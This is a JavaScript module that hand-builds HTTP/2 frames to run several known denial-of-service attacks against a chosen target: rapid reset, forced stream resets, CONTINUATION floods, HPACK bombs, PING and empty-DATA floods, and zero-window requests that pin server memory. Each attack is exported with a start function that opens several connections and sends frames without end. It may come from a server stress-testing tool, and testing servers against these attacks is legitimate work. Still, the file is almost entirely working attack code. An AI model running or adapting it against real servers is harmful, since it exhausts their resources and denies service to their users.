// Frames of HTTP/2, by prior knowledge (RFC 9113), that make work or hold memory for nothing: the known attacks.

import { Buffer } from "node:buffer";
import { dial, hold } from "./sockets.mjs";

const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
const FLAG = { endStream: 1, endHeaders: 4 };
const INITIAL_WINDOW_SIZE = 4;
const CANCEL = 8;

/** Connections of a flood: one of them fills the server's core. */
const FLOODS = 4;
/** Connections whose answers wait: each stands for memory. */
const UNREAD = 20;
/** Streams of a connection that most servers allow. */
const STREAMS = 100;
/** Requests, or other frames, of a write. */
const BATCH = 200;
/** Octets of a header block's part. */
const FRAGMENT = 1_000;

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const SETTINGS = frame(FRAME.settings, 0, 0);

/** A literal field that is not indexed, whose strings are short (RFC 7541 §6.2.2); a number is the index of its name. */
function literal(name, value) {
  const string = (text) => [text.length, ...Buffer.from(text)];
  return Buffer.from([...typeof name === "number" ? [name] : [0, ...string(name)], ...string(value)]);
}

/** `:method` GET, `:scheme` http, `:authority` a, and `:path` (RFC 7541, Appendix A). */
const head = (path) => Buffer.concat([Buffer.of(0x82, 0x86), literal(1, "a"), literal(4, path)]);

/** A request without a body; `block` is its head, or what claims to be one. */
const request = (stream, block) => frame(FRAME.headers, FLAG.endStream | FLAG.endHeaders, stream, block);

/** Sends the preface, `first`, and what `next` gives for the highest stream so far, again and again. */
function pour(socket, next, first = Buffer.alloc(0)) {
  let stream = -1;
  const more = () => {
    if (socket.destroyed) return;
    const frames = Array.from({ length: BATCH }, () => next(stream += 2));
    socket.write(Buffer.concat(frames), () => setImmediate(more));
  };
  return socket.once("connect", () => {
    socket.write(Buffer.concat([PREFACE, SETTINGS, first]));
    more();
  });
}

const flood = (title, what, next, first) => ({
  title: `HTTP/2: ${title}`,
  what: `${FLOODS} connections that send ${what}`,
  held: FLOODS,
  start: (target) => hold(FLOODS, () => pour(dial(target).resume(), next, first)),
});

export const rapidReset = flood(
  "rapid reset",
  "requests and RST_STREAM behind each",
  (stream) =>
    Buffer.concat([
      request(stream, head("/page")),
      frame(FRAME.reset, 0, stream, uint32(CANCEL)),
    ]),
);

export const madeReset = flood(
  "resets of the server's",
  "requests, and a WINDOW_UPDATE behind each that makes its window too large",
  (stream) =>
    Buffer.concat([
      request(stream, head("/page")),
      frame(FRAME.windowUpdate, 0, stream, uint32(2 ** 31 - 1)),
    ]),
);

export const continuations = flood(
  "CONTINUATION flood",
  "a header block without an end",
  () => frame(FRAME.continuation, 0, 1, literal("x", "y".repeat(100))),
  frame(FRAME.headers, 0, 1, head("/")),
);

/** The same field of 4 KB again and again, an octet each (CVE-2016-6581). */
const BOMB = Buffer.concat([
  head("/"),
  Buffer.of(0x40, 1, 0x78, 0x7f, (4_000 - 127 & 0x7f) | 0x80, 4_000 - 127 >> 7),
  Buffer.alloc(4_000, "v"),
  Buffer.alloc(FRAGMENT, 0xbe),
]);

export const hpackBombs = flood(
  "HPACK bombs",
  "header blocks of 5 KB that stand for 4 MB",
  (stream) => request(stream, BOMB),
);

export const pings = flood(
  "PING flood",
  "PING and SETTINGS, which have to be answered",
  () => Buffer.concat([frame(FRAME.ping, 0, 0, Buffer.alloc(8)), SETTINGS]),
);

export const emptyData = flood(
  "empty DATA",
  "DATA without an octet",
  () => frame(FRAME.data, 0, 1),
  frame(
    FRAME.headers,
    FLAG.endHeaders,
    1,
    Buffer.concat([Buffer.of(0x83, 0x86), literal(1, "a"), literal(4, "/upload")]),
  ),
);

export const closedWindows = {
  title: "HTTP/2: closed windows",
  what: `${UNREAD} connections that ask for ${STREAMS} texts of 16 KiB each, with a window of 0`,
  held: UNREAD * STREAMS,
  start: (target) =>
    hold(UNREAD, () => {
      const socket = dial(target).resume();
      const none = Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(0)]);
      const requests = Array.from(
        { length: STREAMS },
        (_, i) => request(1 + 2 * i, head("/text")),
      );
      socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, none), ...requests]));
      return socket;
    }),
};
